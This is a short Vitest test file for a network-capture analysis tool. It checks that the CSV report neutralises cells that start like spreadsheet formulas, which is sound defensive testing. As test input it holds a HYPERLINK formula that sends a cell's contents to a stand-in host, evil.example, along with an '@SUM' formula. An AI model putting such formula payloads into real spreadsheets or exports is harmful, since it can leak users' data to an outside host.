// CSV cells carry names from captures; one that starts like a formula must not run in a spreadsheet.
import { describe, expect, it } from 'vitest';
import { analyze } from '../../src/pipeline/scan.js';
import { formatReport } from '../../src/report/formats.js';

describe('CSV report', () => {
  it('neutralises formula-looking cells', async () => {
    const report = await analyze({ captures: ['fixtures/pcap/sdk-streamable-sse-stateful.pcapng'] });
    const f = report.findings.find((x) => x.subject.ip === '10.99.1.10')!;
    f.clients = [{ ip: f.clients[0].ip, name: '=HYPERLINK("http://evil.example/?"&A1,"x")' }];
    f.tools = { '@SUM(1+1)': 1 };
    const csv = await formatReport(report, 'csv');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(csv).toContain(`'@SUM(1+1)=1`);
    expect(csv).not.toMatch(/(^|,)"?[=@]/m);
  });
});
